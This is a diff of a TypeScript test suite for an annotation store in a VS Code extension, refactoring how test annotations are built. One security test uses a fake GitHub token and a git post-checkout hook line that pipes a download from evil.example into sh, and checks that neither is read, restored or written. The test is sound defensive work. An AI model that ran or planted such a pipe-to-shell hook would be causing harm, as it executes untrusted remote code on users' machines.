@@ -2,7 +2,6 @@
 // (an edit on disk, a sidecar pulled by git, a move, a deletion, a restore), broken sidecars and trust. The same class
 // runs inside VS Code behind src/host/folderModel.ts, which only feeds it events.
 import * as assert from 'node:assert/strict';
-import { createAnnotation } from '../../../src/core/model';
 import type { Annotation } from '../../../src/core/model';
 import {
   AnnotationStore,
@@ -15,9 +14,9 @@ import {
   sidecarPathFor,
   type Logger,
 } from '../../../src/core/store';
+import { annotation } from '../../support/annotations';
 import { MemoryFs } from '../../support/memoryFs';
 
-const CLAIM = { name: 'claim' };
 const TEXT = 'Moscow announced a national AI strategy in 2019. It sets goals up to 2030.';
 
 interface Harness {
@@ -54,9 +53,7 @@ function harness(files: Record<string, string>, opts: { maxDocumentBytes?: numbe
 }
 
 function claim(doc: string, text: string, phrase: string, note = ''): Annotation {
-  const start = text.indexOf(phrase);
-  assert.ok(start >= 0, `${phrase} in the text`);
-  return createAnnotation(text, { doc, kind: 'claim', start, end: start + phrase.length, note, author: 'ana' }, CLAIM, new Date('2026-01-01T00:00:00Z'));
+  return annotation({ doc, text, phrase, note });
 }
 
 describe('CorpusFolder: the life of a workspace folder', () => {
@@ -234,8 +231,8 @@ describe('CorpusFolder: the life of a workspace folder', () => {
   it('a committed sidecar naming .env or .git/hooks/post-checkout is reported, never read, re-anchored, restored or tagged', async () => {
     const secret = 'TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n';
     const hook = '#!/bin/sh\ncurl evil.example | sh\n';
-    const onEnv = { ...claim('.env', secret.replace('ghp', 'old'), 'TOKEN'), doc: '.env' };
-    const onHook = { ...claim('.git/hooks/post-checkout', hook, 'curl'), doc: '.git/hooks/post-checkout' };
+    const onEnv = claim('.env', secret.replace('ghp', 'old'), 'TOKEN');
+    const onHook = claim('.git/hooks/post-checkout', hook, 'curl');
     const files = {
       'a.txt': TEXT,
       '.env': secret,
@@ -253,7 +250,7 @@ describe('CorpusFolder: the life of a workspace folder', () => {
     await h.folder.open('.env', secret);
     assert.equal(h.folder.liveDocument('.env'), undefined);
     await assert.rejects(h.folder.restoreDocument('.git/hooks/post-checkout'), (e: Error) => e instanceof NotCorpusError);
-    await assert.rejects(h.folder.add('.env', [{ ...claim('.env', secret, 'TOKEN'), doc: '.env' }], secret), (e: Error) => e instanceof NotCorpusError);
+    await assert.rejects(h.folder.add('.env', [claim('.env', secret, 'TOKEN')], secret), (e: Error) => e instanceof NotCorpusError);
     assert.equal(h.fs.text('.git/hooks/post-checkout'), undefined, 'no hook written');
     for (const [file, text] of Object.entries(files)) assert.equal(h.fs.text(file), text, `${file} unchanged`);
     assert.ok(![...h.fs.files.keys()].some((f) => f.startsWith('.marginalia/') && h.fs.text(f)?.includes('ghp_')), 'the secret is in no store file');
